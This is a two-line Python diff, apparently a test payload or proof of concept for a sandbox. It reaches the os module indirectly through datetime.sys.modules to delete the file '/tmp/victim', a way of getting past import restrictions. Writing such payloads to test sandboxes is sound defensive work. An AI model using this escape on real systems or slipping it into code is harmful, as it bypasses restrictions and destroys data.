@@ -1,0 +1,2 @@
+import datetime
+datetime.sys.modules["os"].remove("/tmp/victim")
